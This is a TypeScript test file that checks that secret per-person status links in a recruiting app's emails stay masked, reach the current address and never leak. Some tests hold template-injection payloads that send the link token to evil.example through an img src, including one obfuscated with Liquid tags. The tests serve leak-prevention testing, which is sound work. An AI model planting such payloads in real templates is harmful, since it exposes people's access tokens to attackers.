import { describe, expect, it } from 'vitest';
import { deliverMail } from '../../../server/email/deliver.ts';
import { enqueueMail, type Mail } from '../../../server/email/enqueue.ts';
import { personLink } from '../../../server/email/mail-link.ts';
import { applicationForm } from '../../fixtures/applications.ts';
import { siteUrl } from '../../fixtures/functions-server.ts';
import { prepareMailLinks } from './prepare-mail-links.ts';

const {
  mailing,
  server,
  rejectFirst,
  rows,
  createApplicant,
  newest,
  queueAgain,
  show,
  linkSentTo,
  linkIn,
  tokenSentTo,
  asStaff,
} = prepareMailLinks();

describe('the link to the person’s own page', () => {
  it('works in the sent mail and is in no column that staff can read', async () => {
    const email = 'masked@people.example';
    await server.invoke('apply', applicationForm({ email, phone: undefined }));
    const link = await linkSentTo(email);
    expect(link).toMatch(/^https:\/\/alpaca\.example\/status\/[\w-]{43}\?lang=sv$/);
    expect(await show(tokenSentTo(email))).toMatchObject({ status: 200 });
    const mail = await newest(email);
    expect(mail).toMatchObject({
      state: 'sent',
      variables: { link: 'https://alpaca.example/status/••••?lang=sv' },
      links: { link: { kind: 'status' } },
      html: expect.stringContaining('href="https://alpaca.example/status/••••?lang=sv"'),
      body_text: expect.stringContaining('https://alpaca.example/status/••••'),
    });
    expect(JSON.stringify(mail)).not.toContain(tokenSentTo(email));
    expect(mailing.mailServer.to(email)[0]?.html).toContain(`href="${link}"`);
    const shown = await server.invoke('show-mail', { mail_id: mail.id }, { as: 'rasmus' });
    expect(shown.data).toMatchObject({ html: expect.stringContaining('/status/••••') });
    expect(JSON.stringify(shown.data)).not.toContain(tokenSentTo(email));
  });

  it('opens the page in the language of the mail', async () => {
    const email = 'english@people.example';
    await server.invoke('apply', applicationForm({ email, phone: undefined, language: 'en' }));
    expect(await linkSentTo(email)).toMatch(/\/status\/[\w-]{43}\?lang=en$/);
    const { html = '' } = mailing.mailServer.to(email)[0] ?? {};
    const pages = [...html.matchAll(/href="(https:[^"]*)"/g)].map(([, href = '']) => href);
    expect(pages).toHaveLength(3);
    expect(pages.filter((href) => !href.endsWith('?lang=en'))).toEqual([]);
  });

  it('works in a mail that the database has enqueued', async () => {
    const { email, id } = await createApplicant();
    await rows('update people set email = $2 where id = $1', [id, `new.${email}`]);
    const mail = await newest(`new.${email}`);
    expect(mail).toMatchObject({ template_key: 'person_new_email' });
    const shown = await server.invoke('show-mail', { mail_id: mail.id }, { as: 'rasmus' });
    expect(shown.data.html).toContain('href="https://alpaca.example/me/••••?lang=sv"');
    expect(await linkSentTo(`new.${email}`)).toMatch(
      /^https:\/\/alpaca\.example\/me\/[\w-]{43}\?lang=sv$/,
    );
    expect(await show(tokenSentTo(`new.${email}`))).toMatchObject({ status: 200 });
  });

  it('never points to another host, also in templates of earlier releases', async () => {
    const email = 'leaking@people.example';
    await rows('alter table email_templates disable trigger check_template_secrets');
    const [before] = await rows(
      `select body from email_templates where key = 'application_received'`,
    );
    const body = '<p>Hi</p><img src="https://evil.example/p?{{ link }}">';
    const change = `update email_templates set body = $1 where key = 'application_received'`;
    await rows(change, [{ en: body, sv: body }]);
    await server.invoke('apply', applicationForm({ email, phone: undefined }));
    const link = await linkSentTo(email);
    await rows(change, [before.body]);
    await rows('alter table email_templates enable trigger check_template_secrets');
    expect(link).toMatch(/^https:\/\/alpaca\.example\/status\/[\w-]{43}\?lang=sv$/);
    expect(mailing.mailServer.to(email)[0]?.html).not.toContain('evil');
    expect(await newest(email)).toMatchObject({ last_error: expect.stringContaining('leak') });
  });

  it('stays masked inside a URL that staff typed', async () => {
    const { email, id } = await createApplicant();
    const [link] = await rows('select id from applications where person_id = $1', [id]);
    await enqueueMail(server.database.query, {
      template: 'application_message',
      to: email,
      language: 'en',
      personId: id,
      applicationId: link.id,
      subject: 'Hello',
      text: 'Open https://evil.example/?https://alpaca.example/status/•••• now',
      variables: { link: personLink(siteUrl, 'en', { applicationId: link.id }) },
    });
    await linkSentTo(email);
    const sent = mailing.mailServer.to(email).at(-1);
    expect(`${sent?.html}${sent?.text}`).toContain(
      'evil.example/?https://alpaca.example/status/••••',
    );
  });

  it('does not exist before the mail is sent', async () => {
    const email = 'waiting@people.example';
    await server.invoke('apply', applicationForm({ email, phone: undefined }));
    const [before] = await rows(
      'select count(*)::int as links from private.person_links join people on people.id = person_id where email = $1',
      [email],
    );
    expect(before).toEqual({ links: 0 });
    expect(JSON.stringify(await newest(email))).toContain('/status/••••');
  });

  it('is the same on every attempt, so that the first copy of a mail works too', async () => {
    const email = 'twice@people.example';
    rejectFirst.add(email);
    await server.invoke('apply', applicationForm({ email, phone: undefined }));
    const { id } = await newest(email);
    expect(await deliverMail(mailing.mailer, id)).toBe('waiting');
    await queueAgain(id);
    expect(await deliverMail(mailing.mailer, id)).toBe('sent');
    const first = linkIn(email);
    await queueAgain(id);
    expect(await deliverMail(mailing.mailer, id)).toBe('sent');
    expect(mailing.mailServer.to(email)).toHaveLength(2);
    expect(linkIn(email)).toBe(first);
    expect(await show(tokenSentTo(email))).toMatchObject({ status: 200 });
  });

  it('is sent to the current address of the person, not to a former one', async () => {
    const { email, id } = await createApplicant();
    const { id: waiting } = await newest(email);
    await rows(`update people set email = 'moved@people.example' where id = $1`, [id]);
    expect(await deliverMail(mailing.mailer, waiting)).toBe('sent');
    expect(mailing.mailServer.to(email)).toEqual([]);
    expect(await show(tokenSentTo('moved@people.example'))).toMatchObject({ status: 200 });
    await rows(`update outbox set to_email = $2 where id = $1`, [waiting, email]);
    await queueAgain(waiting);
    expect(await deliverMail(mailing.mailer, waiting)).toBe('failed');
    expect(await rows('select last_error from outbox where id = $1', [waiting])).toEqual([
      { last_error: 'link: the person no longer has this address: write a new mail' },
    ]);
    expect(mailing.mailServer.to(email)).toEqual([]);
  });

  it.each(['failed', 'cancelled', 'kept'])(
    'is sent to a corrected address when staff retry a mail that is %s',
    async (state) => {
      const { email, id } = await createApplicant();
      const { id: mail } = await newest(email);
      await rows('update outbox set state = $2 where id = $1', [mail, state]);
      await rows('update people set email = $2 where id = $1', [id, `correct.${email}`]);
      await asStaff('recruiter', `update public.outbox set state = 'queued' where id = $1`, [mail]);
      expect(await deliverMail(mailing.mailer, mail)).toBe('sent');
      expect(mailing.mailServer.to(email)).toEqual([]);
      expect(await show(tokenSentTo(`correct.${email}`))).toMatchObject({ status: 200 });
    },
  );

  it.each([
    ['was sent', `update outbox set state = 'sent' where id = $1`],
    [
      'goes to somebody who attends an interview',
      `with interview as (
         insert into interviews (application_id, job_id, kind, minutes, language, time_zone, choice)
         select application.id, application.job_id, 'phone', 30, 'en', 'Europe/Stockholm', 'free'
         from applications as application join outbox as mail on mail.application_id = application.id
         where mail.id = $1 returning id
       )
       update outbox set application_id = null, interview_id = interview.id from interview where outbox.id = $1`,
    ],
    [
      'goes to a contact of a client',
      'update outbox set client_id = (select id from clients limit 1) where id = $1',
    ],
    [
      'has another address than the person had',
      `update outbox set to_email = 'typed@people.example' where id = $1`,
    ],
  ])('keeps its address when that of the person changes, if the mail %s', async (_, change) => {
    const { email, id } = await createApplicant();
    const { id: mail } = await newest(email);
    await rows(change, [mail]);
    const read = () => rows('select to_email from outbox where id = $1', [mail]);
    const before = await read();
    await rows('update people set email = $2 where id = $1', [id, `correct.${email}`]);
    expect(await read()).toEqual(before);
  });

  it('that was revoked is not sent again, so a retry says that the link no longer works', async () => {
    const { email, id } = await createApplicant();
    const { id: mail } = await newest(email);
    expect(await deliverMail(mailing.mailer, mail)).toBe('sent');
    await rows(`update outbox set state = 'failed' where id = $1`, [mail]);
    for (const address of [`other.${email}`, email]) {
      await rows('update people set email = $2 where id = $1', [id, address]);
    }
    await queueAgain(mail);
    expect(await deliverMail(mailing.mailer, mail)).toBe('failed');
    expect(await rows('select last_error from outbox where id = $1', [mail])).toEqual([
      { last_error: expect.stringMatching(/^link: /) },
    ]);
  });

  it.each([
    ['a mail that waits', 'queued'],
    ['a retry of a failed mail', 'failed'],
  ])('is sent to the address that a merge keeps, in %s', async (_, state) => {
    const [kept, merged] = [await createApplicant(), await createApplicant()];
    const { id: mail } = await newest(merged.email);
    await rows('update outbox set state = $2 where id = $1', [mail, state]);
    const call = { keep: kept.id, merge: merged.id };
    expect(await server.invoke('merge-people', call, { as: 'rasmus' })).toMatchObject({
      status: 200,
    });
    await queueAgain(mail);
    expect(await deliverMail(mailing.mailer, mail)).toBe('sent');
    expect(mailing.mailServer.to(merged.email)).toEqual([]);
    expect(await show(tokenSentTo(kept.email))).toMatchObject({ status: 200 });
  });

  it.each([
    ['changes it by a filter', '<p>{{ link | upcase }}</p>'],
    [
      'sends it to another server',
      `<{% if link == 'z' %} {% endif %}img alt=">" src="https:/{% if link == 'z' %} {% endif %}/evil.example/? {{ link }} "><p>{{ link }}</p>`,
    ],
  ])('is sent with the built-in text if a template %s', async (_, text) => {
    const [{ body }] = await rows(`select body from email_templates where key = 'person_link'`);
    await rows('alter table email_templates disable trigger check_template_secrets');
    await rows(
      `update email_templates set body = jsonb_build_object('en', $1::text, 'sv', body ->> 'sv')
       where key = 'person_link'`,
      [text],
    );
    const { email, id } = await createApplicant();
    const mail: Mail = {
      to: email,
      language: 'en',
      template: 'person_link',
      personId: id,
      variables: { first_name: 'Ada', link: personLink(siteUrl, 'en') },
    };
    const mailId = (await server.database.transaction((query) => enqueueMail(query, mail))) ?? '';
    expect(await deliverMail(mailing.mailer, mailId)).toBe('sent');
    expect(await show(tokenSentTo(email))).toMatchObject({ status: 200 });
    expect(mailing.mailServer.to(email).at(-1)?.html).not.toContain('evil.example');
    expect((await newest(email)).last_error).toBe(
      'template: a link or a code is changed or could leak',
    );
    await rows(`update email_templates set body = $1 where key = 'person_link'`, [body]);
    await rows('alter table email_templates enable trigger check_template_secrets');
  });
});
